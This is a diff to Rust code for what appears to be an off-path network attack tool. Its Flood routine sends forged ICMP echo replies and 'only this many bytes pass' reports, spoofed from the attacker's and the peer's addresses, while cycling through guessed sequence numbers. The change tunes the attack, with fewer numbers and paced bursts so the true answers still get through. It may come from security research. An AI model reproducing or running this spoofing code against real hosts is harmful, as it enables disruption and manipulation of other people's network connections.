@@ -99,10 +99,14 @@ pub struct Flood {
 
 impl Flood {
     /// The probes of a node have these sequence numbers first.
-    const NUMBERS: u16 = 4096;
+    const NUMBERS: u16 = 1024;
+    /// The numbers between two pauses. All numbers take less than the second in which a probe waits.
+    const BURST: u16 = 8;
+    const PAUSE: Duration = Duration::from_millis(5);
 
     /// Sends answers to all probes until `over` is true: replies, and reports that only `most`
-    /// bytes pass, from the attacker's address and from that of the peer.
+    /// bytes pass, from the attacker's address and from the peer's. The pauses leave time to receive
+    /// the true answers: a forged answer with the secret of the socket takes space in its buffer.
     pub fn run(&self, most: u16, over: &AtomicBool) {
         let Self { attacker, node, source, peer, earlier } = self;
         let is_v6 = node.is_ipv6();
@@ -111,6 +115,9 @@ impl Flood {
         for number in (0..Self::NUMBERS).cycle() {
             if over.load(Ordering::Relaxed) {
                 break;
+            }
+            if number % Self::BURST == 0 {
+                std::thread::sleep(Self::PAUSE);
             }
             echo[6..8].copy_from_slice(&number.to_be_bytes());
             let quoted = packet(*source, *peer, &echo);
